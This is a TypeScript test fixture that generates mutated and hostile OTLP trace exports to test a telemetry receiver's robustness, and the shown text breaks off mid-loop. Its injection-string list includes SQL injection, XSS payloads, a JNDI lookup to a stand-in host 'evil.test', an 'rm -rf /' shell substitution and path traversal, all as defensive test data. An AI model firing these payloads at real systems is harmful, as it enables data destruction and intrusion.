/* eslint-disable max-lines -- a test corpus is data, not a story */
/*
 * A deterministic corpus of mutated and hostile OTLP/HTTP trace exports, for
 * the receiver's robustness test. A few valid batches of real GenAI spans
 * (made by the OpenTelemetry SDK, serialized by the OpenTelemetry OTLP
 * serializers as JSON and protobuf) are truncated, bit-flipped and retyped;
 * hand-made payloads add bombs, huge values, absurd nesting, unsupported
 * media types and injection strings. The same seed gives the same corpus.
 */
import { DEFAULT_MAX_BODY_BYTES } from '../config';
import { SpanStatusCode } from '@opentelemetry/api';
import {
  JsonTraceSerializer,
  ProtobufTraceSerializer,
} from '@opentelemetry/otlp-transformer';
import { resourceFromAttributes } from '@opentelemetry/resources';
import {
  BasicTracerProvider,
  InMemorySpanExporter,
  type ReadableSpan,
  SimpleSpanProcessor,
} from '@opentelemetry/sdk-trace-base';
import protobuf from 'protobufjs';
import { deflateSync, gunzipSync, gzipSync, inflateSync } from 'zlib';
import { ExportTraceServiceRequest } from '../telemetry/receiver/otlpMessageTypes';
import { storableText } from '@trellis/plugin-microapps-common';

/**
 * What the receiver must answer: `4xx` when the request must be refused as a
 * whole (undecodable, too large, unsupported); `no-5xx` when a 200, possibly
 * with `partialSuccess` rejecting spans, is correct too.
 */
export type HostileExpectation = '4xx' | 'no-5xx';

export const HOSTILE_CATEGORIES = [
  'valid-seed',
  'truncated-protobuf',
  'truncated-json',
  'mutated-protobuf',
  'mutated-json',
  'json-wrong-types',
  'not-a-request',
  'protobuf-wire-types',
  'compression',
  'oversized',
  'unsupported-media',
  'empty',
  'duplicates',
  'injection',
  'deep-nesting',
] as const;
export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

export interface HostilePayload {
  /** `<category>: <what was done>`, unique in the corpus. */
  name: string;
  category: HostileCategory;
  /** The Content-Type header; empty for none. */
  contentType: string;
  contentEncoding?: string;
  body: Buffer;
  expect: HostileExpectation;
}

export interface HostileCorpus {
  payloads: HostilePayload[];
  /** The MicroApp whose spans carry the injection strings as model and policy rule. */
  injectionApp: string;
  /** Strings that must come back verbatim as policy rules, models and in service names. */
  injectionStrings: string[];
  /** The body limit the oversized and bomb payloads were sized for. */
  maxBodyBytes: number;
  /** The time the span times were made relative to. */
  nowMs: number;
}

export interface HostileCorpusOptions {
  /** PRNG seed; the same seed and `nowMs` give the same corpus. */
  seed?: number;
  /** Span times are a few minutes before this, so that cost reports see them. */
  nowMs: number;
  /** The receiver's body limit (the default configuration is 16 MiB). */
  maxBodyBytes?: number;
}

/** Large buffers that depend on no randomness, made once per process. */
const constants = new Map<string, Buffer>();
const constant = (key: string, make: () => Buffer) => {
  let value = constants.get(key);
  if (!value) {
    value = make();
    constants.set(key, value);
  }
  return value;
};

const JSON_TYPE = 'application/json';
const PROTOBUF_TYPE = 'application/x-protobuf';
const MiB = 1024 * 1024;

/** The MicroApps of the example catalog the seed spans belong to. */
export const HOSTILE_SEED_APPS = {
  extractor: 'invoice-field-extractor',
  campaign: 'campaign-copy-assistant',
  nda: 'nda-triage',
  injection: 'vendor-risk-screener',
} as const;

/**
 * Strings that must survive ingest unchanged (see {@link storedText}): no
 * leading or trailing white space (attribute text is trimmed), at most 199
 * characters (models must be shorter than 200), valid UTF-16.
 */
export const INJECTION_STRINGS: readonly string[] = [
  "'; DROP TABLE microapps_violations; --",
  '" OR 1=1 --',
  "Robert'); DROP TABLE microapps_usage_daily;--",
  "'||(SELECT sqlite_version())||'",
  '1; DELETE FROM microapps_span_keys WHERE 1=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(`xss`)>',
  "{{constructor.constructor('alert(1)')()}}",
  '${jndi:ldap://evil.test/a}',
  '$(rm -rf /) `id`',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: hacked=1',
  'line1\r\nline2\ttabbed',
  'nul\u0000inside',
  'bell\u0007escape\u001b[31mred\u001b[0m',
  'rtl\u202eoverride\u202c',
  'zero\u200bwidth\ufeffbom',
  'emoji 🚀🔥 and 𝕦𝕟𝕚𝕔𝕠𝕕𝕖',
  '日本語のルール / العربية / Ünïcödé',
  '__proto__',
  'constructor',
  'back\\slash \\u0000 \\" quote',
  'microapp:default/../../etc',
  `max-${'x'.repeat(195)}`,
];

/** How Trellis stores attribute text: U+0000 and unpaired surrogates become U+FFFD. */
export const storedText = storableText;

// ---------------------------------------------------------------- randomness

/** mulberry32: a small, fast, seeded PRNG; returns [0, 1). */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Dice {
  constructor(readonly random: () => number) {}
  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.random() * n);
  }
  /** An integer in [min, max]. */
  between(min: number, max: number): number {
    return min + this.int(max - min + 1);
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }
  bytes(n: number): Buffer {
    const buffer = Buffer.alloc(n);
    for (let i = 0; i < n; i++) buffer[i] = this.int(256);
    return buffer;
  }
  /** A non-zero id of `n` bytes, as hex. */
  hexId(n: number): string {
    const bytes = this.bytes(n);
    bytes[0] |= 1;
    return bytes.toString('hex');
  }
}

// ---------------------------------------------------------------- seed batches

interface SpanSpec {
  name: string;
  attributes: Record<string, string | number | boolean | string[] | number[]>;
  events?: Array<{
    name: string;
    attributes: Record<string, string | number | boolean>;
  }>;
  error?: boolean;
}

const genAi = (
  model: string,
  input: number,
  output: number,
  extra: SpanSpec['attributes'] = {},
): SpanSpec['attributes'] => ({
  'gen_ai.operation.name': 'chat',
  'gen_ai.system': 'azure.ai.openai',
  'gen_ai.request.model': model,
  'gen_ai.response.model': model,
  'gen_ai.usage.input_tokens': input,
  'gen_ai.usage.output_tokens': output,
  'gen_ai.response.finish_reasons': ['stop'],
  ...extra,
});

/** Finished spans of one resource, made by the real SDK with seeded ids and fixed times. */
function sdkSpans(
  dice: Dice,
  nowMs: number,
  resource: Record<string, string>,
  specs: SpanSpec[],
): ReadableSpan[] {
  const memory = new InMemorySpanExporter();
  const provider = new BasicTracerProvider({
    resource: resourceFromAttributes(resource),
    spanProcessors: [new SimpleSpanProcessor(memory)],
    idGenerator: {
      generateTraceId: () => dice.hexId(16),
      generateSpanId: () => dice.hexId(8),
    },
  });
  const tracer = provider.getTracer('trellis-hostile-corpus', '1.0.0');
  specs.forEach((spec, i) => {
    const start = nowMs - 5 * 60_000 + i * 1_000;
    const span = tracer.startSpan(spec.name, {
      startTime: start,
      attributes: spec.attributes,
    });
    for (const event of spec.events ?? [])
      span.addEvent(event.name, event.attributes, start + 100);
    if (spec.error)
      span.setStatus({ code: SpanStatusCode.ERROR, message: 'failed' });
    span.end(start + 850);
  });
  return memory.getFinishedSpans();
}

const appResource = (name: string) => ({
  'service.name': name,
  'trellis.microapp.ref': `microapp:default/${name}`,
  'deployment.environment.name': 'production',
});

interface SeedBatch {
  label: string;
  json: Buffer;
  protobuf: Buffer;
}

function seedBatches(dice: Dice, nowMs: number): SeedBatch[] {
  const { extractor, campaign, nda } = HOSTILE_SEED_APPS;
  const batches: Array<{ label: string; spans: ReadableSpan[] }> = [
    {
      label: 'extractor',
      spans: sdkSpans(dice, nowMs, appResource(extractor), [
        {
          name: 'chat azure-gpt-4.1-mini',
          attributes: genAi('azure-gpt-4.1-mini', 12_345, 2_345, {
            'enduser.id': 'alice@acme.test',
          }),
        },
        {
          name: 'chat azure-gpt-4.1-mini',
          attributes: genAi('azure-gpt-4.1-mini', 100_000, 9_999, {
            'gen_ai.usage.cache_read.input_tokens': 40_000,
            'enduser.id': 'bob@acme.test',
            'trellis.connector': 'sharepoint',
          }),
        },
        {
          name: 'extract fields',
          attributes: { 'app.document.pages': 3, 'app.ok': true },
        },
      ]),
    },
    {
      label: 'multi-app',
      spans: [
        ...sdkSpans(dice, nowMs, appResource(campaign), [
          {
            name: 'chat azure-gpt-4.1',
            attributes: genAi('azure-gpt-4.1', 800, 120),
            events: [
              {
                name: 'trellis.policy',
                attributes: {
                  'trellis.policy.decision': 'redact',
                  'trellis.policy.violation': 'pii_detected',
                  'trellis.policy.rule': 'pii.email',
                },
              },
            ],
          },
          {
            name: 'chat azure-gpt-4.1',
            attributes: genAi('azure-gpt-4.1', 10, 10, {
              'guard.verdict': 'yes',
              'guard.classification': 'prompt_injection',
              'guard.score': 0.97,
            }),
            error: true,
          },
        ]),
        ...sdkSpans(dice, nowMs, { 'service.name': 'shadow-sql-helper' }, [
          {
            name: 'chat openai-gpt-4o',
            attributes: genAi('openai-gpt-4o', 50, 5, {
              'gen_ai.usage.cost': 0.0125,
            }),
          },
        ]),
      ],
    },
    {
      label: 'content',
      spans: sdkSpans(dice, nowMs, appResource(nda), [
        {
          name: 'chat azure-gpt-4.1-mini',
          attributes: genAi('azure-gpt-4.1-mini', 400, 40, {
            'gen_ai.input.messages': 'a prompt Trellis must never keep',
            'trellis.template.ref': 'template:default/doc-triage@1.2.0',
            'trellis.prompt.hash': 'sha256:9f86d081884c7d65',
            'app.scores': [0.5, 0.25],
          }),
        },
      ]),
    },
  ];
  return batches.map(({ label, spans }) => ({
    label,
    json: Buffer.from(JsonTraceSerializer.serializeRequest(spans)!),
    protobuf: Buffer.from(ProtobufTraceSerializer.serializeRequest(spans)!),
  }));
}

// ---------------------------------------------------------------- hand-made requests

type AnyValueJson = Record<string, unknown>;
interface KeyValueJson {
  key: string;
  value: unknown;
}

const str = (value: string): AnyValueJson => ({ stringValue: value });
const int = (value: number): AnyValueJson => ({ intValue: String(value) });
const kv = (key: string, value: unknown): KeyValueJson => ({ key, value });

const genAiKv = (model: string, input = 100, output = 10): KeyValueJson[] => [
  kv('gen_ai.operation.name', str('chat')),
  kv('gen_ai.request.model', str(model)),
  kv('gen_ai.usage.input_tokens', int(input)),
  kv('gen_ai.usage.output_tokens', int(output)),
];

/** Builds OTLP/JSON requests with fresh ids. */
class RequestBuilder {
  constructor(private readonly dice: Dice, private readonly nowMs: number) {}

  span(attributes: KeyValueJson[], extra: Record<string, unknown> = {}) {
    const startNs = BigInt(this.nowMs - 4 * 60_000) * 1_000_000n;
    return {
      traceId: this.dice.hexId(16),
      spanId: this.dice.hexId(8),
      name: 'chat',
      kind: 3,
      startTimeUnixNano: String(startNs),
      endTimeUnixNano: String(startNs + 750_000_000n),
      attributes,
      status: { code: 0 },
      ...extra,
    };
  }

  request(resource: KeyValueJson[], spans: unknown[]) {
    return {
      resourceSpans: [
        {
          resource: { attributes: resource },
          scopeSpans: [{ scope: { name: 'hostile' }, spans }],
        },
      ],
    };
  }

  /** One GenAI span of `app`, with extra span attributes. */
  appRequest(app: string, attributes: KeyValueJson[] = [], model?: string) {
    return this.request(
      [kv('service.name', str(app))],
      [this.span([...genAiKv(model ?? 'azure-gpt-4.1-mini'), ...attributes])],
    );
  }
}

/** OTLP/JSON (hex ids) to protobuf bytes, through the receiver's own schema. */
export function jsonRequestToProtobuf(request: unknown): Buffer {
  const hexToBytes = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(hexToBytes);
    if (value && typeof value === 'object') {
      return Object.fromEntries(
        Object.entries(value).map(([key, item]) => [
          key,
          /^(traceId|spanId|parentSpanId)$/.test(key) &&
          typeof item === 'string'
            ? Buffer.from(item, 'hex')
            : hexToBytes(item),
        ]),
      );
    }
    return value;
  };
  const message = ExportTraceServiceRequest.fromObject(
    hexToBytes(request) as Record<string, unknown>,
  );
  return Buffer.from(ExportTraceServiceRequest.encode(message).finish());
}

const jsonBody = (value: unknown) => Buffer.from(JSON.stringify(value), 'utf8');

// ---------------------------------------------------------------- protobuf wire helpers

function varint(value: number): Buffer {
  const bytes: number[] = [];
  let v = value;
  while (v > 127) {
    bytes.push(v % 128 | 128);
    v = Math.floor(v / 128);
  }
  bytes.push(v);
  return Buffer.from(bytes);
}

/** A length-delimited field. */
const lengthDelimited = (field: number, payload: Buffer) =>
  Buffer.concat([varint(field * 8 + 2), varint(payload.length), payload]);

interface TagPosition {
  offset: number;
  field: number;
  wireType: number;
  path: string;
}

/** Where every tag of a well-formed request sits, following the schema into nested messages. */
function tagPositions(body: Buffer): TagPosition[] {
  const positions: TagPosition[] = [];
  const walk = (
    reader: protobuf.Reader,
    end: number,
    type: protobuf.Type,
    path: string,
  ) => {
    while (reader.pos < end) {
      const offset = reader.pos;
      const tag = reader.uint32();
      const field = tag >>> 3;
      const wireType = tag & 7;
      const known = type.fieldsById[field];
      const fieldPath = `${path}.${known?.name ?? field}`;
      positions.push({ offset, field, wireType, path: fieldPath });
      if (known?.resolvedType instanceof protobuf.Type && wireType === 2) {
        const length = reader.uint32();
        walk(reader, reader.pos + length, known.resolvedType, fieldPath);
      } else {
        reader.skipType(wireType);
      }
    }
  };
  ExportTraceServiceRequest.root.resolveAll();
  walk(
    protobuf.Reader.create(body),
    body.length,
    ExportTraceServiceRequest,
    '',
  );
  return positions;
}

/** The first `"chat"` in the body with one byte that is not UTF-8. */
function invalidUtf8InString(body: Buffer): Buffer {
  const copy = Buffer.from(body);
  copy[copy.indexOf('"chat') + 3] = 0xff;
  return copy;
}

// ---------------------------------------------------------------- oracles

const protobufDecodes = (body: Buffer) => {
  try {
    ExportTraceServiceRequest.decode(body);
    return true;
  } catch {
    return false;
  }
};

/** A JSON body the receiver must refuse as a whole: not JSON, or not an object. */
const jsonUndecodable = (body: Buffer) => {
  try {
    const value = JSON.parse(body.toString('utf8'));
    return typeof value !== 'object' || value === null || Array.isArray(value);
  } catch {
    return true;
  }
};

const expectProtobuf = (body: Buffer): HostileExpectation =>
  protobufDecodes(body) ? 'no-5xx' : '4xx';
const expectJson = (body: Buffer): HostileExpectation =>
  jsonUndecodable(body) ? '4xx' : 'no-5xx';

// ---------------------------------------------------------------- JSON wrong types

type Mutation = [
  label: string,
  expect: HostileExpectation,
  apply: (request: any) => void,
];

const firstSpan = (request: any) =>
  request.resourceSpans[0].scopeSpans[0].spans[0];

/** Sets the value of a span attribute, adding it if missing. */
const setAttribute = (request: any, key: string, value: unknown) => {
  const span = firstSpan(request);
  const entry = span.attributes.find((a: KeyValueJson) => a.key === key);
  if (entry) entry.value = value;
  else span.attributes.push({ key, value });
};

function wrongTypeMutations(): Mutation[] {
  const all: Mutation[] = [];
  const add = (
    label: string,
    expect: HostileExpectation,
    apply: (r: any) => void,
  ) => all.push([label, expect, apply]);
  const rs = (r: any) => r.resourceSpans[0];
  const ss = (r: any) => r.resourceSpans[0].scopeSpans[0];
  const sp = firstSpan;

  // The request's structure: refused as a whole.
  for (const [label, value] of [
    ['object', { 0: {} }],
    ['string', 'resourceSpans'],
    ['number', 42],
    ['boolean', true],
  ] as const) {
    add(`resourceSpans as ${label}`, '4xx', r => {
      r.resourceSpans = value;
    });
  }
  add('resourceSpans null', 'no-5xx', r => {
    r.resourceSpans = null;
  });
  for (const [label, value] of [
    ['null', null],
    ['number', 1],
    ['string', 'x'],
    ['array', []],
    ['boolean', false],
  ] as const) {
    add(`resourceSpans[0] as ${label}`, '4xx', r => {
      r.resourceSpans[0] = value;
    });
  }
  for (const [label, value] of [
    ['string', 'x'],
    ['number', 5],
    ['array', []],
    ['null', null],
  ] as const) {
    add(`resource as ${label}`, 'no-5xx', r => {
      rs(r).resource = value;
    });
  }
  for (const [label, value] of [
    ['string', 'service.name=x'],
    ['object', { 'service.name': 'x' }],
    ['number', 5],
    ['array of numbers', [1, 2]],
    ['array with null', [null]],
    ['numeric key', [{ key: 5, value: str('x') }]],
    ['missing key', [{ value: str('x') }]],
    ['bare string value', [{ key: 'service.name', value: 'x' }]],
    [
      'stringValue number',
      [{ key: 'service.name', value: { stringValue: 5 } }],
    ],
    ['intValue abc', [{ key: 'service.name', value: { intValue: 'abc' } }]],
    [
      'arrayValue.values string',
      [{ key: 'service.name', value: { arrayValue: { values: 'x' } } }],
    ],
  ] as const) {
    add(`resource.attributes ${label}`, '4xx', r => {
      rs(r).resource.attributes = value;
    });
  }
  add('resource.droppedAttributesCount string', 'no-5xx', r => {
    rs(r).resource.droppedAttributesCount = 'many';
  });
  add('scopeSpans null', 'no-5xx', r => {
    rs(r).scopeSpans = null;
  });
  for (const [label, value] of [
    ['number', 5],
    ['string', 'x'],
    ['object', { spans: [] }],
    ['boolean', true],
  ] as const) {
    add(`scopeSpans as ${label}`, '4xx', r => {
      rs(r).scopeSpans = value;
    });
  }
  for (const [label, value] of [
    ['null', null],
    ['number', 5],
    ['string', 'x'],
    ['array', [[]]],
  ] as const) {
    add(`scopeSpans[0] as ${label}`, '4xx', r => {
      rs(r).scopeSpans[0] = value;
    });
  }
  for (const [label, value] of [
    ['string', 'x'],
    ['name number', { name: 5 }],
    ['attributes string', { attributes: 'x' }],
  ] as const) {
    add(`scope ${label}`, 'no-5xx', r => {
      ss(r).scope = value;
    });
  }
  add('schemaUrl number', 'no-5xx', r => {
    rs(r).schemaUrl = 5;
    ss(r).schemaUrl = [];
  });
  for (const [label, value] of [
    ['object', { 0: {} }],
    ['string', 'x'],
    ['number', 5],
  ] as const) {
    add(`spans as ${label}`, '4xx', r => {
      ss(r).spans = value;
    });
  }
  add('spans null', 'no-5xx', r => {
    ss(r).spans = null;
  });

  // Inside a span: that span is rejected, the request answered 200.
  for (const [label, value] of [
    ['null', null],
    ['number', 5],
    ['string', 'x'],
    ['array', []],
    ['boolean', true],
  ] as const) {
    add(`spans[0] as ${label}`, 'no-5xx', r => {
      ss(r).spans[0] = value;
    });
  }
  const ids: Array<[string, unknown]> = [
    ['number', 12345],
    ['big number', 1.2345678901234568e37],
    ['short hex', 'abc123'],
    ['non-hex', 'zz'.repeat(16)],
    ['empty', ''],
    ['null', null],
    ['array', [1, 2]],
    ['object', { hex: 'ab' }],
    ['0x prefix', `0x${'a'.repeat(30)}`],
    ['base64', 'q83vq83vq83vq83vq83vqw=='],
    ['spaces', ' '.repeat(32)],
    ['one char too long', 'a'.repeat(33)],
  ];
  for (const [label, value] of ids) {
    add(`traceId ${label}`, 'no-5xx', r => {
      sp(r).traceId = value;
    });
  }
  add('traceId all zero', 'no-5xx', r => {
    sp(r).traceId = '0'.repeat(32);
  });
  add('traceId upper case', 'no-5xx', r => {
    sp(r).traceId = sp(r).traceId.toUpperCase();
  });
  for (const [label, value] of [
    ['number', 5],
    ['short', 'abcd'],
    ['non-hex', 'gg'.repeat(8)],
    ['all zero', '0'.repeat(16)],
    ['null', null],
    ['too long', 'a'.repeat(17)],
    ['object', {}],
    ['trace-id length', 'a'.repeat(32)],
  ] as const) {
    add(`spanId ${label}`, 'no-5xx', r => {
      sp(r).spanId = value;
    });
  }
  add('parentSpanId number', 'no-5xx', r => {
    sp(r).parentSpanId = 5;
  });
  for (const [label, value] of [
    ['number', 5],
    ['object', {}],
    ['null', null],
    ['array', ['chat']],
  ] as const) {
    add(`name ${label}`, 'no-5xx', r => {
      sp(r).name = value;
    });
  }
  for (const [label, value] of [
    ['string', 'SPAN_KIND_SERVER'],
    ['out of range', 99],
    ['negative', -1],
  ] as const) {
    add(`kind ${label}`, 'no-5xx', r => {
      sp(r).kind = value;
    });
  }
  const times: Array<[string, unknown]> = [
    ['object', { seconds: 1 }],
    ['array', [1]],
    ['boolean', true],
    ['negative number', -5],
    ['negative string', '-5000000000'],
    ['float string', '1.7e18'],
    ['decimal string', '1700000000000000000.5'],
    ['float number', 1.5],
    ['non-numeric', 'abc'],
    ['empty string', ''],
    ['20 nines', '99999999999999999999'],
    ['2^64', '18446744073709551616'],
    ['hex string', '0x10'],
    ['leading space', ' 1700000000000000000'],
    ['zero', 0],
    ['zero string', '0'],
    ['null', null],
    ['1 ns', '1'],
    ['far future', String(BigInt(Date.UTC(2999, 0, 1)) * 1_000_000n)],
  ];
  for (const [label, value] of times) {
    add(`startTimeUnixNano ${label}`, 'no-5xx', r => {
      sp(r).startTimeUnixNano = value;
    });
  }
  for (const [label, value] of [
    ['object', {}],
    ['non-numeric', 'abc'],
    ['negative', -1],
    ['before start', '1'],
    ['20 nines', '99999999999999999999'],
  ] as const) {
    add(`endTimeUnixNano ${label}`, 'no-5xx', r => {
      sp(r).endTimeUnixNano = value;
    });
  }
  for (const [label, value] of [
    ['string', 'ERROR'],
    ['number', 2],
    ['array', []],
    ['code string', { code: 'STATUS_CODE_ERROR' }],
    ['code float', { code: 1.5 }],
    ['code negative', { code: -1 }],
    ['code out of range', { code: 99 }],
    ['message number', { code: 2, message: 5 }],
  ] as const) {
    add(`status ${label}`, 'no-5xx', r => {
      sp(r).status = value;
    });
  }
  for (const [label, value] of [
    ['object', { name: 'x' }],
    ['string', 'x'],
    ['array of numbers', [5]],
    ['array with null', [null]],
    ['name number', [{ name: 5 }]],
    ['time non-numeric', [{ name: 'e', timeUnixNano: 'abc' }]],
    ['time negative', [{ name: 'e', timeUnixNano: -1 }]],
    ['attributes string', [{ name: 'e', attributes: 'x' }]],
    ['attribute numeric key', [{ name: 'e', attributes: [{ key: 1 }] }]],
    [
      'policy attributes wrong types',
      [
        {
          name: 'trellis.policy',
          attributes: [
            kv('trellis.policy.decision', { intValue: '1' }),
            kv('trellis.policy.violation', { boolValue: true }),
            kv('trellis.policy.rule', { arrayValue: { values: [] } }),
          ],
        },
      ],
    ],
  ] as const) {
    add(`events ${label}`, 'no-5xx', r => {
      sp(r).events = value;
    });
  }
  for (const [label, value] of [
    ['string', 'x'],
    ['array of numbers', [5]],
    ['object', { traceId: 'x' }],
  ] as const) {
    add(`links ${label}`, 'no-5xx', r => {
      sp(r).links = value;
    });
  }
  add('flags and dropped counts wrong', 'no-5xx', r => {
    sp(r).flags = 'x';
    sp(r).droppedAttributesCount = -1;
    sp(r).droppedEventsCount = {};
  });
  for (const [label, value] of [
    ['object', { 'gen_ai.request.model': 'x' }],
    ['string', 'x'],
    ['number', 5],
    ['boolean', true],
    ['array with null', [null]],
    ['array of numbers', [5]],
    ['array of strings', ['gen_ai.request.model']],
    ['numeric key', [{ key: 5, value: str('x') }]],
    ['empty entry', [{}]],
    ['key without value', [{ key: 'k' }]],
    ['bare string value', [{ key: 'k', value: 'v' }]],
    ['number value', [{ key: 'k', value: 5 }]],
    ['array value', [{ key: 'k', value: [] }]],
  ] as const) {
    add(`attributes ${label}`, 'no-5xx', r => {
      sp(r).attributes = value;
    });
  }
  const anyValues: Array<[string, unknown]> = [
    ['stringValue number', { stringValue: 5 }],
    ['stringValue null', { stringValue: null }],
    ['stringValue object', { stringValue: {} }],
    ['boolValue string', { boolValue: 'true' }],
    ['boolValue number', { boolValue: 1 }],
    ['intValue abc', { intValue: 'abc' }],
    ['intValue float', { intValue: 1.5 }],
    ['intValue float string', { intValue: '1.5' }],
    ['intValue exponent', { intValue: '1e3' }],
    ['intValue object', { intValue: {} }],
    ['intValue boolean', { intValue: true }],
    ['intValue null', { intValue: null }],
    ['intValue 24 digits', { intValue: '123456789012345678901234' }],
    ['doubleValue string', { doubleValue: 'abc' }],
    ['doubleValue boolean', { doubleValue: true }],
    ['doubleValue NaN', { doubleValue: 'NaN' }],
    ['doubleValue Infinity', { doubleValue: 'Infinity' }],
    ['doubleValue object', { doubleValue: {} }],
    ['arrayValue string', { arrayValue: 'x' }],
    ['arrayValue array', { arrayValue: [] }],
    ['arrayValue.values string', { arrayValue: { values: 'x' } }],
    ['arrayValue.values numbers', { arrayValue: { values: [5] } }],
    [
      'arrayValue nested bad int',
      { arrayValue: { values: [{ intValue: 'x' }] } },
    ],
    ['kvlistValue string', { kvlistValue: 'x' }],
    ['kvlistValue.values number', { kvlistValue: { values: 5 } }],
    ['bytesValue number', { bytesValue: 5 }],
    ['bytesValue not base64', { bytesValue: '!!not base64!!' }],
    ['empty AnyValue', {}],
    ['two value fields', { stringValue: 'a', intValue: '5' }],
  ];
  for (const [label, value] of anyValues) {
    add(`attribute value ${label}`, 'no-5xx', r => {
      setAttribute(r, 'app.hostile', value);
    });
  }
  const semantic: Array<[string, string, unknown]> = [
    ['gen_ai.usage.input_tokens', 'string', str('lots')],
    ['gen_ai.usage.input_tokens', 'negative', int(-5)],
    ['gen_ai.usage.input_tokens', 'double', { doubleValue: 1.5 }],
    ['gen_ai.usage.input_tokens', 'huge', { intValue: '99999999999999999999' }],
    ['gen_ai.usage.input_tokens', 'boolean', { boolValue: true }],
    [
      'gen_ai.usage.input_tokens',
      'array',
      { arrayValue: { values: [int(5)] } },
    ],
    ['gen_ai.usage.output_tokens', 'NaN double', { doubleValue: 'NaN' }],
    ['gen_ai.usage.cache_read.input_tokens', 'more than input', int(1e9)],
    ['gen_ai.request.model', 'int', int(5)],
    ['gen_ai.request.model', 'array', { arrayValue: { values: [str('a')] } }],
    ['gen_ai.request.model', 'boolean', { boolValue: true }],
    ['gen_ai.request.model', 'blank', str('   ')],
    ['gen_ai.usage.cost', 'NaN string', str('NaN')],
    ['gen_ai.usage.cost', 'negative', { doubleValue: -1 }],
    ['gen_ai.usage.cost', 'huge', { doubleValue: 1e308 }],
    ['gen_ai.usage.cost', 'Infinity', { doubleValue: 'Infinity' }],
    ['gen_ai.usage.cost', 'array', { arrayValue: { values: [] } }],
    ['enduser.id', 'int', int(5)],
    ['enduser.id', 'array', { arrayValue: { values: [str('a')] } }],
    ['trellis.policy.decision', 'int', int(1)],
    ['trellis.policy.violation', 'boolean', { boolValue: true }],
    ['guard.verdict', 'array', { arrayValue: { values: [str('yes')] } }],
    ['guard.score', 'string', str('very')],
    ['trellis.microapp.ref', 'on the span', str('::::')],
  ];
  for (const [key, label, value] of semantic) {
    add(`${key} ${label}`, 'no-5xx', r => {
      setAttribute(r, key, value);
    });
  }
  add('unknown fields everywhere', 'no-5xx', r => {
    r.extra = { nested: [1, 2, 3] };
    rs(r).extra = 'x';
    ss(r).extra = null;
    sp(r).extra = { traceId: 5 };
  });
  return all;
}

// ---------------------------------------------------------------- the corpus

/**
 * Builds the corpus. Deterministic: the same `seed` and `nowMs` give the same
 * payloads byte for byte.
 */
export function hostileOtlpCorpus(
  options: HostileCorpusOptions,
): HostileCorpus {
  const dice = new Dice(seededRandom(options.seed ?? 0x7e11)); // 'trellis'
  const maxBodyBytes = options.maxBodyBytes ?? DEFAULT_MAX_BODY_BYTES;
  const build = new RequestBuilder(dice, options.nowMs);
  const payloads: HostilePayload[] = [];
  const names = new Set<string>();
  const add = (
    category: HostileCategory,
    detail: string,
    contentType: string,
    body: Buffer,
    expect: HostileExpectation,
    contentEncoding?: string,
  ) => {
    const name = `${category}: ${detail}`;
    if (names.has(name)) throw new Error(`Duplicate payload name ${name}`);
    names.add(name);
    payloads.push({
      name,
      category,
      contentType,
      contentEncoding,
      body,
      expect,
    });
  };

  const seeds = seedBatches(dice, options.nowMs);
  const seedJson = seeds.map(s => JSON.parse(s.json.toString('utf8')));

  // -- valid seeds: the baseline every mutation starts from
  for (const seed of seeds) {
    add('valid-seed', `${seed.label} json`, JSON_TYPE, seed.json, 'no-5xx');
    add(
      'valid-seed',
      `${seed.label} protobuf`,
      PROTOBUF_TYPE,
      seed.protobuf,
      'no-5xx',
    );
  }

  // -- truncations at many offsets
  const offsets = (length: number, count: number) => {
    const chosen = new Set<number>();
    for (let i = 1; i <= count; i++)
      chosen.add(Math.max(1, Math.floor((i * length) / (count + 1))));
    while (chosen.size < count + 10 && chosen.size < length - 1)
      chosen.add(1 + dice.int(length - 1));
    return [...chosen].sort((a, b) => a - b);
  };
  for (const seed of seeds) {
    for (const at of offsets(seed.protobuf.length, 90)) {
      const body = seed.protobuf.subarray(0, at);
      add(
        'truncated-protobuf',
        `${seed.label} to ${at} of ${seed.protobuf.length} bytes`,
        PROTOBUF_TYPE,
        body,
        expectProtobuf(body),
      );
    }
    for (const at of offsets(seed.json.length, 60)) {
      const body = seed.json.subarray(0, at);
      add(
        'truncated-json',
        `${seed.label} to ${at} of ${seed.json.length} bytes`,
        JSON_TYPE,
        body,
        expectJson(body),
      );
    }
  }

  // -- random mutations of protobuf and JSON bytes
  const mutate = (source: Buffer, kind: number): [string, Buffer] => {
    const at = dice.int(source.length);
    switch (kind) {
      case 0: {
        const bit = dice.int(8);
        const body = Buffer.from(source);
        body[at] ^= 1 << bit;
        return [`bit ${bit} flipped at ${at}`, body];
      }
      case 1: {
        const body = Buffer.from(source);
        const value = dice.int(256);
        body[at] = value;
        return [`byte ${at} set to ${value}`, body];
      }
      case 2: {
        const inserted = dice.bytes(dice.between(1, 4));
        return [
          `${inserted.length} bytes inserted at ${at}`,
          Buffer.concat([
            source.subarray(0, at),
            inserted,
            source.subarray(at),
          ]),
        ];
      }
      case 3: {
        const count = dice.between(1, 8);
        return [
          `${count} bytes deleted at ${at}`,
          Buffer.concat([source.subarray(0, at), source.subarray(at + count)]),
        ];
      }
      case 4: {
        const count = dice.between(4, 32);
        const body = Buffer.from(source);
        body.fill(0xff, at, at + count);
        return [`${count} bytes set to 0xff at ${at}`, body];
      }
      default: {
        const from = dice.int(source.length);
        const slice = source.subarray(from, from + dice.between(2, 64));
        return [
          `${slice.length} bytes from ${from} repeated at ${at}`,
          Buffer.concat([source.subarray(0, at), slice, source.subarray(at)]),
        ];
      }
    }
  };
  const kindFor = () => {
    const roll = dice.int(100);
    if (roll < 35) return 0;
    if (roll < 60) return 1;
    if (roll < 75) return 2;
    if (roll < 90) return 3;
    if (roll < 95) return 4;
    return 5;
  };
  for (let i = 0; i < 420; i++) {
    const seed = seeds[i % seeds.length];
    const [what, body] = mutate(seed.protobuf, kindFor());
    add(
      'mutated-protobuf',
      `#${i} ${seed.label}: ${what}`,
      PROTOBUF_TYPE,
      body,
      expectProtobuf(body),
    );
  }
  for (let i = 0; i < 120; i++) {
